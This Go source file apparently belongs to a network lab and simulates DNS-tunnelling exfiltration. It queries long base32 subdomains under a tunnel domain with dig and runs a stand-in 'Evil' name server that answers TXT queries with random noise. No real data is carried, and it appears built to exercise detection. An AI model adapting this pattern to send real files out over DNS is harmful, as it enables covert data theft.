package breach

import (
	"context"
	"encoding/base32"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/yagura-project/yagura/lab/hall"
)

var letters = base32.StdEncoding.WithPadding(base32.NoPadding)

// tunnel asks for many long names below one domain, as if each carried a piece of a file.
func (s *Stage) tunnel(ctx context.Context) error {
	random := rand.New(rand.NewPCG(53, 1))
	var names strings.Builder
	for i := range s.o.Lookups {
		piece := make([]byte, 60)
		for j := range piece {
			piece[j] = byte(random.UintN(256))
		}
		text := strings.ToLower(letters.EncodeToString(piece))
		fmt.Fprintf(&names, "%s.%s.%04x.%s TXT\n", text[:48], text[48:], i, hall.TunnelDomain)
	}
	list := filepath.Join(s.h.Dir(), "names")
	if err := os.WriteFile(list, []byte(names.String()), 0o644); err != nil {
		return err
	}
	// dig goes on after a name without an answer, and fails only if it cannot speak at all
	if err := s.run(ctx, hall.Soumu, "dig", "+tries=1", "+time=1", "+short", "@"+hall.DNS.String(), "-f", list); err != nil {
		return ErrCut
	}
	return ctx.Err()
}

// serveNames answers for the tunnel's domain on the breach's address until Close: some noise for each name.
func (s *Stage) serveNames() error {
	var conn net.PacketConn
	err := s.h.In(hall.Internet, func() (err error) {
		conn, err = net.ListenPacket("udp4", net.JoinHostPort(hall.Evil.String(), "53"))
		return err
	})
	if err != nil {
		return fmt.Errorf("breach: name server: %w", err)
	}
	s.background(func(ctx context.Context) {
		<-ctx.Done()
		_ = conn.Close()
	})
	s.background(func(context.Context) { answerAll(conn) })
	return nil
}

func answerAll(conn net.PacketConn) {
	random := rand.New(rand.NewPCG(53, 2))
	query := make([]byte, 1500)
	for {
		n, from, err := conn.ReadFrom(query)
		if errors.Is(err, net.ErrClosed) {
			return
		}
		if err != nil {
			continue
		}
		if reply, err := answer(query[:n], random); err == nil {
			_, _ = conn.WriteTo(reply, from)
		}
	}
}

// answer gives a TXT record of 90 letters to a TXT question, and no record to any other.
func answer(query []byte, random *rand.Rand) ([]byte, error) {
	var p dnsmessage.Parser
	head, err := p.Start(query)
	if err != nil {
		return nil, err
	}
	question, err := p.Question()
	if err != nil {
		return nil, err
	}
	reply := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: head.ID, Response: true, Authoritative: true, RecursionDesired: head.RecursionDesired},
		Questions: []dnsmessage.Question{question},
	}
	if question.Type == dnsmessage.TypeTXT {
		noise := make([]byte, 56)
		for i := range noise {
			noise[i] = byte(random.UintN(256))
		}
		reply.Answers = []dnsmessage.Resource{{
			Header: dnsmessage.ResourceHeader{Name: question.Name, Type: question.Type, Class: question.Class, TTL: 0},
			Body:   &dnsmessage.TXTResource{TXT: []string{letters.EncodeToString(noise)}},
		}}
	}
	return reply.Pack()
}
